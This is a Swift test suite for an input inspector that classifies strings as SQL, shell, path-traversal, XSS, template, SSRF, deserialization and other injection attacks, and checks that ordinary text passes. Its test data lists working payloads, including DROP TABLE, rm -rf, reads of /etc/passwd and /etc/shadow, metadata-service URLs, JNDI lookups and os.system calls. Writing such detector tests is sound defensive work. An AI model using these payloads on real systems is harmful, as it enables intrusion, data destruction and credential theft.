import GuardInspection
import Testing

/// What is an attack and what is not, with nothing known of where the text goes.
@Suite struct DetectionTests {
  private func detect(_ text: String, known: SinkSet = []) -> Detection? {
    let bytes = Array(text.utf8)
    return Inspector.inspect(bytes.span, SinkScope(known: known))
  }

  @Test(arguments: [
    "' or 1=1 --", "1 or 1=1", "admin'--", "x' UNION SELECT name, pass FROM users", "1;DROP TABLE orders",
    "') or ('a'='a",
    "1 AND SLEEP(5)", "'; exec xp_cmdshell 'dir'", "1/**/union/**/select/**/1,2", "' || (select 1) || '",
    "\" or \"\"=\"",
    "1) ORDER BY 12--", "'; WAITFOR DELAY '0:0:9'--", "-1' /*!50000union*/ select 1,user()#",
    "(select password from users)",
  ]) func sqlIsFound(text: String) { #expect(detect(text)?.sink == .sql, "\(text)") }

  @Test(arguments: [
    "; cat /etc/hosts", "a.png;id", "x | whoami", "$(curl example.com)", "&& rm -rf /", "`wget http://example.com/x`",
    "a; w'h'oami", "() { :;}; echo", "/???/c?t /???/p??s??", "a;${IFS}id", "|/usr/bin/id|",
  ]) func commandsAreFound(text: String) {
    #expect([.shell, .path].contains(detect(text)?.sink), "\(text)")
  }

  @Test(arguments: [
    "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%252e%252e%252f%252e%252e%252f", "..\\..\\boot.ini",
    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%af", "/etc/shadow", "php://filter/read=x", "a.png\u{0}.txt",
    "0x2e0x2e0x2f0x2e0x2e0x2f",
  ]) func pathsAreFound(text: String) { #expect(detect(text)?.sink == .path, "\(text)") }

  @Test(arguments: [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=prompt(2)>", "javascript:alert(1)",
    "java\tscript:alert(1)", "&#60;script&#62;alert(1)", "\\u003cscript\\u003e", "<a href=\"data:text/html;base64,x\">",
    "' onmouseover='x()", "<iframe src=//example.com>",
  ]) func scriptsAreFound(text: String) { #expect(detect(text)?.sink == .html, "\(text)") }

  @Test(arguments: [
    ("{{7*7}}", Sink.template), ("${7*7}", .template), ("{{config.items()}}", .template), ("<%= 1 %>", .template),
    ("#set($x=1)", .template), ("<!DOCTYPE a [<!ENTITY x \"y\">]>", .xml), ("*)(uid=*))(|(uid=*", .ldap),
    ("http://169.254.169.254/latest/meta-data/", .url), ("http://2852039166/", .url), ("http://0x7f.1/", .url),
    ("http://[::ffff:a9fe:a9fe]/", .url), ("gopher://127.0.0.1:6379/_x", .url), ("a\r\nSet-Cookie: b=c", .header),
    ("O:8:\"stdClass\":0:{}", .deserialization), ("!!python/object/apply:os.system", .deserialization),
    ("__proto__[x]", .prototype), ("user[$ne]", .nosql), ("'; return true; var a='", .nosql),
    ("require('child_process').exec('id')", .code), ("__import__('os').system('id')", .code),
    ("${jndi:ldap://x/a}", .code),
  ]) func otherAttacksAreFound(text: String, sink: Sink) { #expect(detect(text)?.sink == sink, "\(text)") }

  @Test(arguments: [
    "O'Brien", "Fish & chips; cat food", "Select a seat and order by phone", "rock 'n' roll", "5' 11\" tall",
    "I <3 you",
    "The union of workers", "C++ and C#", "50% off; buy 2 or 3", "https://example.com/a?b=c&d=e#f", "a@b.example",
    "{{first_name}}", "Dear ${name},", "2024-05-01T10:00:00Z", "SELECT committee", "drop table tennis off",
    "price > 5 and < 10",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "it's 'quoted'",
    "../", "photo (1).jpg", "{\"a\":1}", "x = y; z = w", "\u{1F600} héllo wörld", "C:\\Users\\me\\photo.jpg", "and/or",
    "--",
    "1-2-3", "10 - 5 = 5", "see `name` for details", "javascript: the good parts", "onboarding = done",
  ]) func ordinaryTextPasses(text: String) {
    #expect(detect(text) == nil, "\(text): \(String(describing: detect(text)))")
  }

  @Test(arguments: [
    (Sink.shell, "a b", false), (.shell, "a;b", true), (.shell, "-rf", true), (.sql, "O'Brien", false),
    (.sql, "x'", true),
    (.path, "a/b.txt", false), (.path, "..", true), (.path, "/abs", true), (.url, "https://example.com/", false),
    (.url, "http://10.0.0.1/", true), (.url, "http://localhost/", true), (.url, "file.txt", false),
    (.ldap, "(x)", true),
    (.html, "a<b", true), (.header, "a\nb", true), (.template, "{{name}}", true),
  ]) func aKnownPlaceMakesSingleCharactersCount(sink: Sink, text: String, isFound: Bool) {
    #expect((detect(text, known: SinkSet(sink)) != nil) == isFound, "\(sink) \(text)")
  }
}
